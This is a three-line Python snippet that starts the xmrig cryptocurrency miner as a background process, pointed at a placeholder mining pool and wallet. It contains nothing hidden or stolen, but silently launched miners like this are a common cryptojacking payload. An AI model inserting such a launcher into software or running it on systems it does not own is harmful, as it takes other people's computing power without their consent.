import subprocess
POOL = "stratum+tcp://pool.example.com:3333"
subprocess.Popen(["./xmrig", "-o", POOL, "-u", "wallet"])
